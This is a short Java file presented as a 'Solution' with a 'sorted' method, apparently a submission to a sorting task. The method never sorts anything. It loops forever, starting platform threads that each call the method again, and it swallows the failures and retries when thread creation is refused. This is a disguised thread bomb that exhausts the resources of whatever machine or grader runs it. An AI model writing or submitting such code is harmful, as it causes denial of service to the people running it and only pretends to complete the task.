import java.util.concurrent.locks.LockSupport;

class Solution {
  int[] sorted(int[] numbers) {
    while (true) {
      try {
        Thread.ofPlatform().start(() -> sorted(numbers));
      } catch (Throwable refused) {
        LockSupport.parkNanos(1000);
      }
    }
  }
}
